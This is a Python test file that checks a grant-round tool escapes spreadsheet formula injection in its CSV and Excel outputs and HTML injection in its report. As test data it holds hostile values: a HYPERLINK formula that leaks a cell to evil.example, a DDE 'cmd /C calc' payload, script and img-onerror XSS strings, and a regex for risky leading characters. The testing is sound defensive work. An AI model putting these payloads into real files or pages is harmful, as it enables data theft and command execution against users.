"""Formula injection (OWASP "CSV injection"): registry text that a spreadsheet would run.

Every CSV file a round writes must show such a cell as text (a leading ``'``), every workbook
must hold it as a string cell that stays text when edited, the report must escape it as HTML,
and the ledger must still record the name exactly as the registry has it.
"""

from __future__ import annotations

import csv
import re
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from policymatch.rounds.ledger import Ledger
from policymatch.rounds.outputs import neutralised, restore, write_csv
from policymatch.rounds.tables import Column, Kind, make_table
from tests.hostile.outputs.conftest import WriteRound
from tests.rounds.helpers import Rejected, read_entry

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此核对")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1+2",
    "'已带引号的名称",
    "＝1＋2",
]
#: What a spreadsheet takes for a formula: these first characters, also after spaces.
RISKY = re.compile(r"^([=+\-@\t\r＝＋－＠]|[ \u3000]+[=+\-@＝＋－＠])")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


@pytest.fixture
def folder(write_round: WriteRound, tmp_path: Path) -> Path:
    rejected = [Rejected(12, "=cmd|' /C calc'!A0", "-1 is not a date")]
    # 己 and 庚 without an account: their grants (hostile names) go to held.csv
    return write_round(HOSTILE, tmp_path / "out", rejected, held={5, 6})


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_no_csv_cell_is_a_formula(folder: Path) -> None:
    files = sorted(folder.glob("*.csv"))
    assert len(files) == 9  # held.csv too
    assert len(_rows(folder / "held.csv")) > 1
    seen = set()
    for path in files:
        for row in _rows(path)[1:]:
            for cell in row:
                assert not RISKY.match(cell) or NUMBER.match(cell), (path.name, cell)
                seen.add(restore(cell))
    # every hostile value reached a file, neutralised, and reads back exactly
    assert {*HOSTILE, "=cmd|' /C calc'!A0", "-1 is not a date"} <= seen


def test_grants_csv_reads_back_the_registry_names(folder: Path) -> None:
    rows = _rows(folder / "grants.csv")
    names = {restore(r[1]) for r in rows[1:]}
    assert names <= set(HOSTILE)
    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"点此核对")' in {r[1] for r in rows}


def test_commit_records_the_names_unchanged(folder: Path, tmp_path: Path) -> None:
    # The round was drafted from registry records in memory, not a file commit could read
    # again: committed as commit does once the registry checks out (read_round, then commit).
    ledger = tmp_path / "ledger.sqlite"
    Ledger(f"sqlite:///{ledger}").commit(read_entry(folder))
    with sqlite3.connect(ledger) as db:
        recorded = {name for (name,) in db.execute("select name from pm_grants")}
    assert recorded
    assert recorded <= set(HOSTILE)
    assert "'已带引号的名称" in recorded or "=1+2" in recorded


@pytest.mark.parametrize("book", ["兑现清单.xlsx", "公示名单.xlsx"])
def test_workbook_cells_are_text_that_stays_text(folder: Path, book: str) -> None:
    with zipfile.ZipFile(folder / book) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode(), name  # no formula anywhere
    wb = openpyxl.load_workbook(folder / book)
    cells = [c for ws in wb for row in ws.iter_rows(min_row=2) for c in row if c.value in HOSTILE]
    assert cells
    for c in cells:
        assert c.data_type == "s"
        assert c.quotePrefix  # editing the cell keeps it text
        assert c.number_format == "@"


def test_report_escapes_registry_text(write_round: WriteRound, tmp_path: Path) -> None:
    names = ['<script>alert("x")</script>', '"><img src=x onerror=alert(1)>']
    out = write_round(names, tmp_path / "html")
    text = (out / "report.html").read_text("utf-8")
    assert "<script" not in text
    assert "<img" not in text


def test_negative_money_stays_a_number(tmp_path: Path) -> None:
    """Only text cells are escaped: a negative amount is a number, a text "-12.50" is text."""
    columns = (Column("note", "说明"), Column("amount", "金额", Kind.MONEY))
    table = make_table("t.csv", None, columns, [["-12.50", "+86 138", "正常"], [-1250, 5, None]])
    write_csv(table, tmp_path)
    assert (tmp_path / "t.csv").read_text("utf-8-sig").splitlines() == [
        "note,amount",
        "'-12.50,-12.50",
        "'+86 138,0.05",
        "正常,",
    ]


def test_the_rule_round_trips() -> None:
    values = [*HOSTILE, "", "正常", "a=b", "''", " =x", "\u3000+1", "12-3", None]
    escaped = neutralised(pa.array(values, pa.string())).to_pylist()
    assert [None if v is None else restore(v) for v in escaped] == values
    assert all(not RISKY.match(v) for v in escaped if v is not None)


@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@'\t\r ＝＋－＠\u3000a1中,\"")))))
def test_any_text_is_neutralised_and_restored(values: list[str]) -> None:
    escaped = neutralised(pa.array(values, pa.string())).to_pylist()
    assert [restore(v) for v in escaped] == values
    assert not any(RISKY.match(v) for v in escaped)
